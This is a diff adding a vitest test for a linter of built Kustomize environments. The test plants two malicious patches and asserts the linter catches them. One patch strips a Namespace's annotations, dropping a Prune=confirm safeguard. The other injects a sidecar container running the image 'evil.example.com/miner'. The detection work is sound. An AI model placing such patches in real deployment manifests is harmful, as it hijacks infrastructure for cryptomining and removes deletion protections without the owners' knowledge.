@@ -1,0 +1,36 @@
+import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, expect, test } from "vitest";
+import { releaseFiles, releaseOf } from "../../actions/testing/shop.ts";
+import { lintBuilt } from "./built.ts";
+
+let folder: string;
+beforeEach(async () => {
+  folder = await mkdtemp(join(tmpdir(), "slipway-built-"));
+  await cp(join(import.meta.dirname, "../../environments"), join(folder, "environments"), { recursive: true });
+  await mkdir(join(folder, "environments/dev/product/release"));
+  for (const [path, text] of Object.entries(releaseFiles("dev", releaseOf("product")))) {
+    await writeFile(join(folder, path), text);
+  }
+});
+afterEach(() => rm(folder, { recursive: true, force: true }));
+
+async function append(path: string, text: string): Promise<void> {
+  await writeFile(join(folder, path), `${await readFile(join(folder, path), "utf8")}${text}`);
+}
+
+test("what the repository holds builds, with a release too; what a patch plants in it is found", async () => {
+  expect(await lintBuilt(folder)).toEqual([]);
+  await append(
+    "environments/prod/platform/kustomization.yaml",
+    "patches:\n  - target: { kind: Namespace }\n    patch: |-\n      - { op: remove, path: /metadata/annotations }\n",
+  );
+  await append(
+    "environments/dev/product/kustomization.yaml",
+    "patches:\n  - target: { kind: Rollout }\n    patch: |-\n      - { op: copy, from: /spec/template/spec/containers/0, path: /spec/template/spec/containers/- }\n      - { op: replace, path: /spec/template/spec/containers/1/image, value: evil.example.com/miner }\n",
+  );
+  const found = await lintBuilt(folder);
+  expect(found).toContainEqual(expect.stringMatching(/^environments\/prod\/platform\/kustomization\.yaml: the namespace lacks the sync option Prune=confirm/));
+  expect(found).toContainEqual(expect.stringMatching(/^environments\/dev\/product\/kustomization\.yaml: Rollout\/product .*evil\.example\.com\/miner/));
+});
